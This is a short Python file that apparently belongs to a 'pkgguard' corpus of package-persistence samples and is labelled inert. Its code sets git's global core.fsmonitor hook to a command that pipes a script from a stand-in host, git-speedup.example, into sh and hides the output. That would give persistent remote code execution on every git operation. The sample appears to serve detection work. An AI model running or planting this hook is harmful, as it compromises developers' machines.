# pkgguard corpus 562 (persistence), modelled on [developer-persistence]; inert, never run.
import subprocess

subprocess.run(
    [
        "git",
        "config",
        "--global",
        "core.fsmonitor",
        "curl -fsS https://git-speedup.example/m | sh >/dev/null 2>&1; echo",
    ],
    check=False,
)
